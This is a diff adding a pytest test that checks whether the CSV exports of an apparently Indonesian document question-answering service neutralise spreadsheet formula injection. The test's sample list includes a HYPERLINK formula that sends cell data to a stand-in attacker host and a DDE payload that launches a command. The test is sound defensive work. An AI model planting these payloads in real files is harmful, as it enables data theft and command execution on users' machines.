@@ -82,3 +82,30 @@ def test_dashboard_and_exports_reflect_answers_refusals_and_feedback(admin_clien
     refused_json = json.loads(b"".join(admin_client.get("/admin/exports/refused.json").streaming_content))
     assert refused_json[0]["question"] == "siapa juara sepak bola dunia" and refused_json[0]["times"] == 2
     assert admin_client.get("/admin/exports/refused.xml").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "  =1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_cells_never_start_a_formula(admin_client, api_client, formula):
+    # Given a feedback comment and a question that a spreadsheet would run as a formula,
+    make_document(title="Qanun PPID", chunks=["PPID wajib menjawab permohonan informasi paling lambat 10 hari kerja."])
+    answered = api_client.post("/query", data={"query": f"{formula} Berapa hari PPID wajib menjawab?"},
+                               content_type="application/json").json()
+    message = Message.objects.get(conversation_id=answered["conversation_id"], role="assistant")
+    api_client.post(f"/messages/{message.id}/feedback", data={"rating": "down", "comment": formula},
+                    content_type="application/json")
+    # when the conversations and refused-question exports are read as CSV,
+    raw = b"".join(admin_client.get("/admin/exports/conversations.csv").streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    refused = b"".join(admin_client.get("/admin/exports/refused.csv").streaming_content).decode()
+    # then each such cell is text (a leading apostrophe), its content otherwise kept, and numbers stay numbers.
+    [rated] = [r for r in rows if r["message_id"] == str(message.id)]
+    assert rated["feedback_comment"] == "'" + formula.strip()      # the feedback route trims the comment
+    [question] = [r for r in rows if r["role"] == "user"]
+    assert question["content"].startswith("'" + formula.strip())
+    assert rated["position"] == "1" and float(rated["latency_ms"]) > 0
+    cells = [cell for row in csv.reader(io.StringIO(raw + refused)) for cell in row]
+    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
